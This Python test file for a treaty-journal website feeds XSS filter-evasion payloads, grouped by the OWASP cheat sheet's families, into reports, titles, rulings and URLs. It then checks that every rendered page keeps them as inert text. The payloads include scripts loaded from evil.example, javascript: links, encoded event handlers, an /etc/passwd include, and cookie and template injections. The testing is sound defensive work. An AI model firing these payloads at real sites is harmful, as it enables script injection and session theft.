"""Every family of the OWASP XSS filter evasion cheat sheet, in strings of our own: as report, title, publisher, note and address.

The families are the headings of that sheet, a few of a kind under one name. What a page shows of them is text.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from site_in_browser import Served, serving, unfold

from foedus.gathering.inputs import gather
from foedus.journal.record import Journal
from foedus.pipeline import add, load_reference

RUN = "alert(document.domain)"
AWAY = "https://evil.example"
EVENTS = """
abort activate afterprint afterupdate animationstart beforecopy beforecut beforeinput
beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay cellchange
change click contextmenu copy cut dataavailable dblclick drag dragdrop drop end
error errorupdate filterchange finish focus focusin focusout formdata fullscreenchange
hashchange help input keydown layoutcomplete load losecapture mediacomplete message
mousedown mouseenter mousemove mouseover mousewheel move offline online outofsync paste
pause play pointerenter popstate progress propertychange readystatechange redo repeat
reset resize resume reverse rowsenter scroll scrollend search seek select
selectionchange selectstart start stop storage submit syncrestored timeerror toggle
touchstart trackchange transitionend undo unhandledrejection unload urlflip wheel
""".split()  # noqa: SIM905
CODES = [ord(letter) for letter in f"javascript:{RUN}"]
FAMILIES = {
    "plain": (f"<script src={AWAY}/a.js></script>", f"<script>{RUN}</script>"),
    "for several contexts at once": (
        f"javascript:/*--></title></style></textarea></noscript></script></template><svg/onload=+/'/+/onfocus=1/+/*`/+{RUN}//>",
    ),
    "malformed links": (
        f'\\<a onpointerenter="{RUN}"\\>here\\</a\\>',
        f"<a onclick={RUN}>here",
        f"<a a aa aaa aaaa href=j&#97v&#97script:{RUN}>here",
    ),
    "malformed pictures": (
        f"<img '''><script>{RUN}</script>\">",
        f'<img src="/" =_=" title="onerror={RUN}">',
        f"<image src=x onerror={RUN}>",
    ),
    "character codes": (f"<img src=javascript:eval(String.fromCharCode({','.join(map(str, CODES[11:]))}))>",),
    "default sources": (
        f'<img src=# onmouseover="{RUN}">',
        f"<img src= onmouseover={RUN}>",
        f"<img onmouseover={RUN}>",
    ),
    "failing sources": (
        f"<img src=/ onerror={RUN}></img>",
        f'<img src=x onerror="{"".join(f"&#{code}" for code in CODES[11:])}">',
    ),
    "references": (
        "<img src=" + "".join(f"&#{code};" for code in CODES) + ">",
        "<img src=" + "".join(f"&#{code:07}" for code in CODES) + ">",
        "<img src=" + "".join(f"&#x{code:X}" for code in CODES) + ">",
        "<a href=javascript&colon;alert&lpar;1&rpar;&NewLine;>here</a>",
    ),
    "broken words": (
        f'<a href="ja\tvascript:{RUN}">',
        f'<a href="jav&Tab;ascript:{RUN}">',
        f'<a href="java&#x0A;script:{RUN}">',
        f'<a href="java&#x0D;script:{RUN}">',
        f"<a href='java\x00script:{RUN}'>",
        f"<a href='\x01\x02 &#14; javascript:{RUN}'>",
    ),
    "no letter between": (
        f"<script/a src={AWAY}/a.js></script>",
        f"<body onload$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
        f"<script/src={AWAY}/a.js></script>",
        f"<svg/onload={RUN}>",
    ),
    "odd brackets": (
        f"<<script>{RUN};//<</script>",
        f"<script src={AWAY}/a.js?< b >",
        f"<iframe src={AWAY}/a.html <",
        f"<img src=x onerror={RUN} //",
    ),
    "no protocol": (
        "<script src=//evil.example/.j>",
        "<a href=\\\\evil.example\\a>here</a>",
        "<a href=/\\evil.example/a>here</a>",
    ),
    "half open": (
        f'<img src="`<javascript:{RUN}>`"',
        f"<a href='javascript:{RUN}",
        f"<div style='width:1px' onwheel={RUN}",
    ),
    "out of a script": (
        f"\\';{RUN};//",
        f'\\\\";{RUN};//',
        f"</script><script>{RUN}</script>",
        f"${{{RUN}}}",
        f"500);{RUN};//",
    ),
    "out of an element": (
        f"</title><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        f"</textarea><img src=x onerror={RUN}>",
    ),
    "pictures of old": (
        f"<input type=image src=javascript:{RUN}>",
        f"<body background=javascript:{RUN}>",
        f"<img dynsrc=javascript:{RUN}>",
        f"<img lowsrc=javascript:{RUN}>",
        f"<bgsound src=javascript:{RUN}>",
        f'<br size="&{{{RUN}}}">',
        "<isindex type=image src=1 onerror=alert(1)>",
    ),
    "other languages": ("<img src='vbscript:msgbox(1)'>", "<img src=livescript:[code]>", "<img src='mocha:[code]'>"),
    "new notations": (
        "Set.constructor`alert\\x28document.domain\\x29```",
        "[1].find(alert)",
        "top['al'+'ert'](1)",
        "top[/al/.source+/ert/.source](1)",
        "(alert)(1)",
        "al\\u0065rt(1)",
        "top['al\\x65rt'](1)",
        "top[8680439..toString(30)](1)",
        "alert?.()",
        "a=alert,a(1)",
        "`${alert``}`",
    ),
    "events": tuple(
        f"<b {' '.join(f'on{name}={RUN}' for name in EVENTS[n : n + 32])}>b</b>" for n in range(0, len(EVENTS), 32)
    ),
    "style sheets": (
        f"<link rel=stylesheet href=javascript:{RUN}>",
        f"<link rel=stylesheet href={AWAY}/a.css>",
        f"<style>@import'{AWAY}/a.css';</style>",
        f"<meta http-equiv=Link content='<{AWAY}/a.css>; rel=stylesheet'>",
        f"<style>body{{-moz-binding:url('{AWAY}/a.xml#a')}}</style>",
    ),
    "style words": (
        f"<style>@im\\port'\\ja\\vasc\\ript:{RUN}';</style>",
        f"<img style='a:expr/*b*/ession({RUN})'>",
        f"exp/*<a style='no\\a:noa(\"*//*\");a:ex/*b*//*/*/pression({RUN})'>",
        f"<style type=text/javascript>{RUN};</style>",
        f"<style>.a{{background-image:url('javascript:{RUN}')}}</style><a class=a></a>",
        f"<unknown style='a:expression({RUN})'>",
        "<unknown style='behavior:url(a.htc)'>",
        f"<style>//*{{a:expression({RUN})}}//</style>",
    ),
    "dividers": (
        f"<div style='background-image:url(javascript:{RUN})'>",
        "<div style='background-image:\\0075\\0072\\006C\\0028\"\\006a\\0061\\0076\\0061\"\\0029'>",
        f"<div style='background-image:url(\u3000javascript:{RUN})'>",
        f"<div style='width:\nexpression({RUN})'>",
    ),
    "encodings": (
        f"\xbcscript\xbe{RUN}\xbc/script\xbe",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"%253Cscript%253E{RUN}",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    ),
    "refreshing": (
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=refresh content='0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg=='>",
        f"<meta http-equiv=refresh content='0;URL=http://;URL=javascript:{RUN}'>",
        "<meta content='&NewLine;1&NewLine;;JAVASCRIPT&colon;alert(1)' http-equiv=refresh>",
    ),
    "frames": (
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<iframe src=# onmouseover={RUN}></iframe>",
        f"<frameset><frame src=javascript:{RUN}></frameset>",
        "<iframe/src='data:text/html,<svg onload=alert(1)>'>",
        f"<iframe srcdoc='<script>{RUN}</script>'>",
        "<iframe src='data:text/html,%3Cscript%3Ealert(1)%3C/script%3E'></iframe>",
    ),
    "tables": (f"<table background=javascript:{RUN}>", f"<table><td background=javascript:{RUN}>"),
    "comments": (
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
        f"<!--><script>{RUN}</script>-->",
        f"<comment><img src='</comment><img src=x onerror={RUN}//'>",
    ),
    "bases": (f"<base href='javascript:{RUN};//'>", f"<base href='{AWAY}/'>"),
    "objects": (
        f"<object type=text/x-scriptlet data={AWAY}/a.html></object>",
        f"<object data=javascript:{RUN}></object>",
        f"<applet code=javascript:{RUN}></applet>",
        f"<object classid=clsid:0><param name=url value=javascript:{RUN}></object>",
        f"<embed src={AWAY}/a.swf allowscriptaccess=always></embed>",
        "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='></embed>",
        'a="get";b="URL(";c="javascript:";d="alert(1))";eval(a+b+c+d);',
    ),
    "islands": (
        f"<xml id=a><i><b><img src='javas<!-- -->cript:{RUN}'></b></i></xml><span datasrc=#a datafld=b dataformatas=html></span>",
        "<xml src=a.xml id=i></xml><span datasrc=#i datafld=c dataformatas=html></span>",
        f"<?import namespace=t implementation='#default#time2'><t:set attributeName=innerHTML to='<script defer>{RUN}</script>'>",
    ),
    "vectors": (
        "<svg><script xlink:href=data&colon;,alert(1)></script",
        f"<svg><a xlink:href=javascript:{RUN}><text y=9>here</text></a></svg>",
        f"<svg><set attributeName=href to=javascript:{RUN} />",
        f"<math href=javascript:{RUN}>here</math>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    ),
    "other names of files": (f"<script src={AWAY}/a.jpg></script>", f"<script src=data:,{RUN}></script>"),
    "on the server": (
        '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#include virtual="/etc/passwd"-->',
        f"<? echo('<scr'); echo('ipt>{RUN}</script>'); ?>",
        "<%= 7 * 7 %>",
        "{{ 7 * 7 }}{% raw %}",
        "#{7 * 7}",
    ),
    "commands": (
        "<img src=/editor/sign-out>",
        "<img src='/treaties?q=a&amp;delete=all'>",
        "<form action=/editor/sign-out method=post><button>here</button></form>",
    ),
    "cookies": (
        f"<meta http-equiv=Set-Cookie content='session=<script>{RUN}</script>'>",
        "a\r\nSet-Cookie: session=b",
        "%0d%0aSet-Cookie:%20session=b",
    ),
    "quotation marks": (
        f"<script a='>' src={AWAY}/a.js></script>",
        f"<script ='>' src={AWAY}/a.js></script>",
        f"<script a='>' \"\" src={AWAY}/a.js></script>",
        f"<script \"a='>'\" src={AWAY}/a.js></script>",
        f"<script a=`>` src={AWAY}/a.js></script>",
        f'<script a=">\'>" src={AWAY}/a.js></script>',
        f"<script>document.write('<scri');</script>pt src={AWAY}/a.js></script>",
    ),
    "strange addresses": (
        "<a href=http://203.0.113.7/>here</a>",
        "<a href=http://%65%76%69%6c.example>here</a>",
        "<a href=http://3405803783/>here</a>",
        "<a href=http://0xcb.0x0.0x71.0x7/>here</a>",
        "<a href=http://0313.0000.0161.0007/>here</a>",
        "<a href='h\ntt\tp://evil.example/'>here</a>",
        "<a href=//evil.example>here</a>",
        "<a href=http://good.example@evil.example>here</a>",
        "<a href=http://evil:good.example>here</a>",
        "<a href=http://evil.example./>here</a>",
        f"<a href=\"javascript:document.location='{AWAY}'\">here</a>",
        "<a href=http://evilhttp://.example/>here</a>",
        "<img onload=\"eval(atob('YWxlcnQoMSk='))\">",
    ),
    "polluted parameters": (
        "an address&content_type=1;alert(1)",
        "?a=1&a=javascript:alert(1)",
        "x#javascript:alert(1)",
    ),
    "the less-than sign": tuple(
        " ".join(f"{form}script>{RUN}" for form in part)
        for part in (
            ("&lt", "&lt;", "&LT", "&LT;", "&#60", "&#060;", "&#0000060;"),
            ("&#x3c", "&#x003C;", "&#X3C", "\\x3c", "\\x3C", "\\u003c", "\\u003C", "%3C"),
        )
    ),
    "past a firewall": (
        "<Img src = x onerror = 'javascript: window.onerror = alert; throw 1'>",
        f"<Video> <source onerror = 'javascript: {RUN}'>",
        "<Input value = 'a' onfocus = alert(1) autofocus>",
        f"<form><button formaction=javascript&colon;{RUN}>here",
        "<form><a href='javascript:\\u0061lert(1)'>here",
        "<input/onmouseover='javaSCRIPT&colon;confirm&lpar;1&rpar;'",
        f"</script><img/*%00/src='a&colon;b'/%00*/onerror='{RUN}'>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        f"<script x>{RUN}</script 1=2",
        f"\"><script>{RUN}</script>'>",
    ),
}
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#x73;cript:{RUN}",
    f"%6Aavascript:{RUN}",
    "vbscript:msgbox(1)",
    "livescript:a",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "\\\\evil.example\\",
    "http://good.example@evil.example/",
    "file:///etc/passwd",
    "about:blank",
    "view-source:https://evil.example/",
    "blob:https://evil.example/a",
    'https://evil.example/"onclick=alert(1)//',
    "https://evil.example/'><script>alert(1)</script>",
    "keyword:evil",
    "filesystem:https://evil.example/a",
)
"""What does harm as a whole address."""
REPORT = (
    "ACCRA, May 4 (Example Wire) - Ghana and Norway signed the Ghana-Norway Fisheries Treaty on May 4, 2031 in Oslo.\n\n"
    'The Norwegian Foreign Ministry said that the Ghana-Norway Fisheries Treaty is "purely defensive {0}".\n\n{0}\n\nTranslated by {0}\n'
)
ALIVE = """() => [...document.querySelectorAll('*')].filter(e => {
  const local = e.localName.toLowerCase(), names = ['href', 'src', 'action', 'formaction'];
  const to = names.map(name => e.getAttribute(name)).find(value => value !== null) ?? null;
  const parsed = to === null ? null : URL.parse(to, location.href);
  const leads = to !== null && (!parsed || !['http:', 'https:'].includes(parsed.protocol));
  const away = parsed && parsed.origin !== location.origin && !e.matches('a[rel~=nofollow][rel~=noopener]');
  return leads || away || [...e.attributes].some(a => /^on|^style$|^srcdoc$|^background$|^xlink/.test(a.name)) ||
    /^(img|image|iframe|frame|object|embed|applet|base|style|math|xml|bgsound|video|audio|isindex)$/.test(local) ||
    (local === 'meta' && e.httpEquiv) || (local === 'script' && !e.src) || local.includes(':') || local === 'unknown';
}).map(e => e.outerHTML.slice(0, 160))"""
"""Elements and attributes that no page of the site has, and what leads elsewhere without saying so."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A journal with reports with the strings of a few families each, in the text, title, publisher and name."""
    folder: Path = tmp_path_factory.mktemp("evasions")
    families, lines = list(FAMILIES.items()), []
    for n, url in enumerate(ADDRESSES):
        some = families[n :: len(ADDRESSES)]
        names, words = ", ".join(name for name, _ in some), " ".join(one for _, strings in some for one in strings)
        line = {"id": f"{names} {words}", "text": REPORT.format(words), "title": words, "publisher": f"{names} {words}"}
        lines.append({**line, "url": url, "published": "2031-05-05"})
    file = folder / "reports.jsonl"
    file.write_text("\n".join(json.dumps(line) for line in lines), encoding="utf-8")
    with Journal.open(folder / "foedus.db") as journal:
        for _ in add(journal, gather([str(file)]), load_reference()):
            pass
        with serving(journal) as site:
            yield site


def test_every_family_stays_text_wherever_a_report_brings_it(visit, hostile: Served) -> None:
    documents = [one.id for one in hostile.journal.listed(limit=len(FAMILIES))]
    assert len(documents) == len(ADDRESSES)
    treaties = [f"/treaties/{treaty.id}" for treaty in hostile.library.edition.treaties]
    compared = "/compare?" + "&".join(f"r={id_}" for id_ in documents[:6])
    page = visit("/", 390, site=hostile)
    shown = ""
    for path in [
        "/",
        "/treaties",
        "/reports",
        "/sources",
        compared,
        *treaties,
        *(f"/reports/{id_}" for id_ in documents),
    ]:
        page.goto(hostile.url + path)
        unfold(page)
        assert page.evaluate(ALIVE) == [], path
        shown += page.evaluate("document.body.textContent")
    assert all(family in shown for family in FAMILIES)


def test_every_family_stays_text_as_the_note_and_the_source_of_a_ruling(visit, hostile: Served) -> None:
    (treaty, *_) = hostile.library.edition.treaties
    act = hostile.library.edition.ask(lambda k: k.around(treaty.id)).acts[0]
    for strings in FAMILIES.values():
        words = " ".join(strings)
        ruling = hostile.journal.append_ruling("reject", act.id, author=words[:80], note=words, source=strings[0])
        hostile.journal.append_ruling("undo", ruling.id, author="an editor", note=words, source=words)
    for address in ADDRESSES:
        hostile.journal.append_ruling("reject", act.id, author="an editor", note="an address", source=address)
    hostile.library.refresh()
    page = visit("/rulings", site=hostile)
    for path in ("/rulings", f"/treaties/{treaty.id}"):
        page.goto(hostile.url + path)
        unfold(page)
        assert page.evaluate(ALIVE) == [], path


@pytest.mark.parametrize("path", ["/search?q={}", "/treaties/{}", "/obligations?predicate={0}&who={0}&whom={0}"])
def test_every_family_stays_text_in_what_is_asked(visit, hostile: Served, path: str) -> None:
    page = visit("/", site=hostile)
    strings = [one for family in FAMILIES.values() for one in family] + list(ADDRESSES)
    for n in range(0, len(strings), 24):
        page.goto(hostile.url + path.format(quote(" ".join(strings[n : n + 24])[:5000], safe="")))
        assert page.evaluate(ALIVE) == [], strings[n : n + 24]


def test_what_is_alive_is_found_by_what_the_tests_look_for(visit, hostile: Served) -> None:
    page = visit("/", site=hostile)
    page.evaluate(
        """() => document.body.insertAdjacentHTML('beforeend', '<a href="javascript:void 0">a</a><b background="1">b</b><math></math>')"""
    )
    assert len(page.evaluate(ALIVE)) == 3
